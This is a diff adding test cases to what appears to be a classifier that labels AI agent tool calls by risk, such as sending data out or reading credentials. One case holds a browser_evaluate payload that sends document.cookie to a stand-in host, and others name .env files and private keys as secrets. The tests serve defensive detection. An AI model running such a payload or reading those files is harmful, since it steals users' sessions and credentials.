@@ -76,7 +76,25 @@ ENGINES = cel.available_engines()
         ("list_directory", {}, {"path": "/home/u/.ssh"}, {"recon"}, None),
         ("delete_file", {}, {"path": "/tmp/x"}, {"destructive"}, None),
         ("anything", {"destructiveHint": True}, {}, {"destructive"}, None),
+        # issue 24: publishing tools, git objects, path-named arguments, open-world tools given text, script tools
+        ("create_issue", {}, {"owner": "o", "repo": "r", "title": "t", "body": "b"}, {"network_send"}, None),
+        ("add_issue_comment", {}, {"owner": "o", "repo": "r", "issue_number": 1, "body": "b"}, {"network_send"}, None),
+        ("push_files", {}, {"repo": "r", "files": [{"path": ".env", "content": "x"}]}, {"network_send", "credential_read"}, None),
+        ("slack_reply_to_thread", {}, {"channel_id": "C1", "thread_ts": "1.2", "text": "hi"}, {"network_send"}, None),
+        ("git_show", {}, {"repo_path": ".", "revision": "HEAD~3:config/.env"}, {"credential_read"},
+         {"credential_read": ["config/.env"]}),
+        ("load_config", {}, {"config_path": "deploy/.env.production"}, {"credential_read"}, None),
+        ("open_keystore", {}, {"key_file": "certs/privkey.pem"}, {"credential_read"}, None),
+        ("browser_type", {"openWorldHint": True}, {"element": "Search", "target": "e3", "text": "hello"}, {"network_send"}, None),
+        ("browser_evaluate", {}, {"function": "() => fetch('https://x.example/c?d=' + document.cookie)"}, {"network_send"},
+         {"network_send": ["https://x.example/c"]}),
         # benign look-alikes
+        ("read_text_file", {}, {"path": "certs/fullchain.pem"}, set(), None),  # a certificate is public
+        ("read_text_file", {}, {"path": "certs/server-cert.pem"}, set(), None),
+        ("list_issues", {}, {"owner": "o", "repo": "r"}, set(), None),
+        ("git_show", {}, {"repo_path": ".", "revision": "HEAD~1"}, set(), None),
+        ("browser_click", {"openWorldHint": True}, {"element": "Next", "target": "e9"}, set(), None),  # no text to carry
+        ("set_profile", {}, {"profile": ".env"}, set(), None),  # "profile" is not a path-named argument
         ("read_file", {}, {"path": "/srv/app/.env.example"}, set(), None),
         ("read_file", {}, {"path": "/home/u/.ssh/id_rsa.pub"}, set(), None),
         ("read_file", {}, {"path": "docs/ssh-keys.md"}, set(), None),
